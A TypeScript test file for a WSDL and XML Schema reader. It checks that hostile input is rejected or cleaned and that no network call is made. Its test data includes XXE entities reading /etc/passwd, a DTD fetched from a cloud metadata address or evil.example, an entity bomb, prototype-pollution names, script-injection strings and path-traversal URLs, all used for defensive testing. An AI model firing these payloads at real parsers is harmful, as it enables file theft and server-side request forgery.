import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { Unusable } from '../../../../src/complaint.ts';
import { checkDescribed } from '../../../../src/tools/adapter/check-described.ts';
import { handedFiles } from '../../../../src/tools/adapter/from.ts';
import { answering, asked, complaintOf, fieldsOf, holding, listed, read, said, schema, wsdl } from './describing.ts';

const connect = vi.spyOn(Socket.prototype, 'connect');
const fetched = vi.spyOn(globalThis, 'fetch');
beforeAll(() => void connect.mockClear());
afterAll(() => {
  expect(fetched).not.toHaveBeenCalled();
  expect(connect).not.toHaveBeenCalled();
});

const year = '<xs:element name="year" type="xs:int"/>';
const good = answering(year);
const bomb = Array.from({ length: 20 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('');

test.each([
  ['an entity of a file', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${good}`, 'has a DOCTYPE'],
  ['an entity of an address', `<!DOCTYPE x SYSTEM "http://169.254.169.254/x.dtd">${good}`, 'has a DOCTYPE'],
  ['a parameter entity', `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/"> %e;]>${good}`, 'has a DOCTYPE'],
  ['an entity bomb', `<!DOCTYPE x [<!ENTITY e0 "ha">${bomb}]>${good.replace('urn:u', '&e20;')}`, 'has a DOCTYPE'],
  ['an entity that nobody declared', good.replace('urn:u', '&e;'), 'a reference stands for no character'],
  ['10⁵ nested types', answering('<xs:sequence>'.repeat(1e5)), 'nested deeper than 64 elements'],
  ['10⁶ nested types', answering('<xs:sequence>'.repeat(1e6)), 'nested deeper than 64 elements'],
  ['half a million elements', `${good}<a>`.replace('<types>', `<types>${'<a/>'.repeat(500_000)}`), 'more than 400000'],
  ['50 MB', good + ' '.repeat(50e6), 'has 50 million characters; 24 million are read at most'],
  ['an attribute twice', good.replace('<types>', '<types a="1" a="2">'), 'not well-formed'],
  ['nothing', '', 'not well-formed'],
  ['a page', '<html><body>Not found</body></html>', 'neither a WSDL 1.1 description nor an XML Schema'],
  ['WSDL 2.0', '<description xmlns="http://www.w3.org/ns/wsdl"/>', 'WSDL 2.0 is not read'],
  ['a schema alone', '<schema xmlns="http://www.w3.org/2001/XMLSchema"/>', 'hand over its WSDL first'],
  ['no operation', wsdl({ operations: [] }), 'no operations that can be called'],
])('%s: one sentence, which names the file', (_, text, sentence) => {
  const complaint = complaintOf(() => read(text));
  expect(complaint).toMatch(/^cars\.wsdl: /);
  expect(complaint).toContain(sentence);
  expect(complaint).not.toContain('\n');
  expect(complaint.length).toBeLessThan(300);
});

test('a file of 50 MB is not even opened, and an address is no file', () => {
  const folder = mkdtempSync(join(tmpdir(), 'large-'));
  try {
    const file = join(folder, 'large.wsdl');
    writeFileSync(file, '');
    truncateSync(file, 50e6);
    expect(complaintOf(() => handedFiles(file, []))).toContain('has 50000000 bytes; at most 20000000 are read.');
    expect(complaintOf(() => handedFiles('https://cars.example/x?wsdl', []))).toContain('Only files on this machine');
    expect(complaintOf(() => handedFiles(folder, []))).toContain('cannot be read');
  } finally {
    rmSync(folder, { recursive: true });
  }
});

const chain = (length: number, link: (at: number, next: number) => string) =>
  Array.from({ length }, (_, at) => link(at, at + 1)).join('');
const extension = (name: string, base: string, content = '') =>
  `<xs:complexType name="${name}"><xs:complexContent><xs:extension base="t:${base}"><xs:sequence>${content}</xs:sequence></xs:extension></xs:complexContent></xs:complexType>`;
/** What is said, whether it is complained of or noted. */
function saidOf(text: string): string {
  try {
    return said(read(text));
  } catch (error) {
    if (error instanceof Unusable) return error.message;
    throw error;
  }
}

const first = '<xs:element name="first" type="t:C0"/>';

test.each([
  [
    'types that extend each other',
    chain(3_000, (at, next) => extension(`C${at}`, `C${next}`, year)),
    'more than 64 bases; the rest is left out.',
  ],
  [
    'types that hold each other',
    chain(3_000, (at, next) => holding(`${year}<xs:element name="next" type="t:C${next}"/>`, `name="C${at}"`)),
    'the operations need more than 2000 types; pick fewer of them with --only.',
  ],
  [
    'lists in lists',
    chain(5_000, (at, next) => holding(`<xs:element name="n" type="t:C${next}" maxOccurs="9"/>`, `name="C${at}"`)),
    'the operations need more than 2000 types; pick fewer of them with --only.',
  ],
])('thousands of %s end in a sentence', (_, others, sentence) => {
  const found = saidOf(answering(first + year, others));
  expect(found).toMatch(/^cars\.wsdl:4: /);
  expect(found).toContain(sentence);
});

test('3,000 restrictions of a text are a text, and 3,000 groups in groups are cut and said', () => {
  const texts = chain(
    3_000,
    (at, next) => `<xs:simpleType name="C${at}"><xs:restriction base="t:C${next}"/></xs:simpleType>`,
  );
  expect(read(answering(first, texts)).operations[0]?.output?.type).toMatchObject({ scalar: 'String' });
  const groups = chain(
    3_000,
    (at, next) => `<xs:group name="C${at}"><xs:sequence><xs:group ref="t:C${next}"/></xs:sequence></xs:group>`,
  );
  expect(said(read(answering(`<xs:group ref="t:C0"/>${year}`, groups)))).toContain('the rest is left out.');
});

test('files that include each other are each read once', () => {
  const including = (name: string, content = '') =>
    `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="urn:t" elementFormDefault="qualified"><xs:include schemaLocation="${name}"/>${content}</xs:schema>`;
  const response = `<xs:element name="GetCarResponse">${holding(year)}</xs:element>`;
  const service = read(wsdl({ types: schema('<xs:include schemaLocation="a.xsd"/>') }), {
    others: { 'a.xsd': including('b.xsd', asked), 'b.xsd': including('a.xsd', response), 'c.xsd': including('c.xsd') },
  });
  expect(service.operations).toHaveLength(1);
  const imports = '<import namespace="urn:t" location="cars.wsdl"/>';
  const types = schema(asked + response);
  expect(
    read(wsdl({ types, imports }), { others: { 'x/cars.wsdl': wsdl({ types, imports }) } }).operations,
  ).toHaveLength(1);
});

test('types that extend each other in a circle have what both hold', () => {
  const circle = extension('Car', 'Van', year) + extension('Van', 'Car', '<xs:element name="seats" type="xs:int"/>');
  const service = read(answering('<xs:element name="car" type="t:Car"/>', circle));
  expect(Object.keys(fieldsOf(service, 'Car'))).toEqual(['seats', 'year']);
  const itself = read(answering(`<xs:element name="car" type="t:Car"/>${year}`, extension('Car', 'Car', year)));
  expect(Object.keys(fieldsOf(itself, 'Car'))).toEqual(['year']);
});

test('groups, texts, attributes and elements that stand for each other in a circle end', () => {
  const others = `<xs:group name="G"><xs:sequence><xs:group ref="t:G"/><xs:element name="g" type="xs:int"/></xs:sequence></xs:group>
    <xs:simpleType name="A"><xs:restriction base="t:B"/></xs:simpleType><xs:simpleType name="B"><xs:restriction base="t:A"/></xs:simpleType>
    <xs:simpleType name="L"><xs:list itemType="t:L"/></xs:simpleType><xs:simpleType name="U"><xs:union memberTypes="t:U t:A"/></xs:simpleType>
    <xs:attributeGroup name="H"><xs:attributeGroup ref="t:H"/><xs:attribute name="h" type="xs:int"/></xs:attributeGroup>
    <xs:element name="a" substitutionGroup="t:b" type="xs:int"/><xs:element name="b" substitutionGroup="t:a" type="xs:int"/>
    <xs:complexType name="H"><xs:sequence>${year}</xs:sequence><xs:attributeGroup ref="t:H"/></xs:complexType>`;
  const parts =
    '<xs:group ref="t:G"/><xs:element ref="t:a"/>' +
    ['A', 'L', 'U', 'H'].map((type) => `<xs:element name="x${type}" type="t:${type}"/>`).join('');
  const service = read(answering(parts, others));
  expect(said(service)).toContain('groups hold each other; the rest is left out.');
  expect(fieldsOf(service, 'H')).toMatchObject({ year: {}, h: { place: 'attribute' } });
  checkDescribed(service);
});

const members = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__typename', 'null', 'class'];

test('members that every object has are elements as any other, under names of ours', () => {
  const elements = members.map((name) => `<xs:element name="${name}" type="t:${name}"/>`).join('');
  const types = members.map((name) => holding(year, `name="${name}"`)).join('');
  const service = read(answering(elements, types));
  const output = service.operations[0]?.output?.type;
  const fields = Object.values(fieldsOf(service, output?.kind === 'named' ? output.name : ''));
  expect(fields.map(({ wire }) => wire.name)).toEqual(members);
  expect(fields.map(({ name }) => name).filter((name) => members.includes(name) || name.startsWith('__'))).toEqual([]);
  expect(service.types).toHaveLength(members.length + 1);
  expect(({} as { readonly year?: unknown }).year).toBeUndefined();
  checkDescribed(service);
});

test('a reference by such a name to what is not there is said to lead nowhere', () => {
  const service = read(answering(`<xs:element name="odd" type="t:constructor"/>${year}`));
  expect(said(service)).toContain('the type "t:constructor" is in no file handed over');
  expect(complaintOf(() => read(good, { only: ['__proto__'] }))).toContain('No operation is called "__proto__".');
});

test.each([
  ['Query', 'queryRecord'],
  ['Mutation', 'mutationRecord'],
  ['Subscription', 'subscriptionRecord'],
  ['__proto__', 'proto'],
  ['constructor', 'constructorRecord'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', 'scriptAlert1Script'],
  ['a */ `${process.env.HOME}` b', 'aProcessEnvHomeB'],
  ['../../etc/passwd', 'etcPasswd'],
  ['', 'operation1'],
])('an operation called %j becomes %s', (called, name) => {
  const types = schema(
    `<xs:element name="${called}" type="xs:int"/><xs:element name="${called}Response" type="xs:int"/>`,
  );
  const text = wsdl({ types, operations: [called] });
  expect(listed(text)).toMatchObject([{ name }]);
  const service = read(text);
  expect(service.operations).toMatchObject([{ name }]);
  checkDescribed(service);
});

test.each([
  ['https://cars.example/a/../../etc/passwd', ['cars.example'], '/etc/passwd'],
  ['https://cars.example/%2e%2e/%2E%2e/x', ['cars.example'], '/x'],
  ['https://cars.example/a\\..\\..\\b', ['cars.example'], '/b'],
  ['https://user:secret@cars.example/x?y=1#z', ['cars.example'], '/x'],
  ['file:///etc/passwd', ['api.cars.example'], '/'],
  ['javascript:alert(1)', ['api.cars.example'], '/'],
  ['http://127.0.0.1:6379/x', ['api.cars.example'], '/x'],
  ['../../service', ['api.cars.example'], '/'],
  ['https://cars.example/`${x}`', ['cars.example'], '/%60$%7Bx%7D%60'],
])('an address %s is one at %j, path %s', (address, hosts, path) => {
  const service = read(good.replace('https://cars.example/service', address));
  expect(service).toMatchObject({ hosts, operations: [{ wire: { path } }] });
  expect(JSON.stringify(service)).not.toContain('secret');
});
